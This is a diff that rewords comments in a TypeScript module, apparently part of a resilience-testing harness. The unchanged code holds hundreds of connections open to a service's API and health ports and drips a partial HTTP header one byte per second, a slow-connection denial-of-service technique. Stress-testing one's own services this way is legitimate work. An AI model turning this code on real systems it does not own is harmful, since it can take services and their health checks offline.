@@ -3,12 +3,12 @@ import { connect, type Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import type { Attack, Stage } from './attack.ts';
 
-/** Connections that are opened in one go; more at once overflow the queue of the kernel. */
+/** Connections that are opened at once; more overflow the accept queue of the kernel. */
 const AT_ONCE = 250;
 
 /**
- * Opens so many connections, by turns to the API and to where a kubelet asks, each from one of several addresses, and
- * keeps them until the signal is aborted.
+ * Opens this many connections, to the API port and the health port in turn, from several addresses, and keeps them open
+ * until the signal is aborted.
  */
 async function hold(
   { port, healthPort }: Stage,
@@ -37,7 +37,7 @@ async function hold(
   }
 }
 
-/** Sends one byte a second, for ever. */
+/** Sends one byte per second until the connection closes. */
 function drip(socket: Socket): void {
   socket.write('POST /api/v1/toolsets/validate HTTP/1.1\r\nHost: x\r\nX-Slow: ');
   const timer = setInterval(() => socket.write('a'), 1_000);
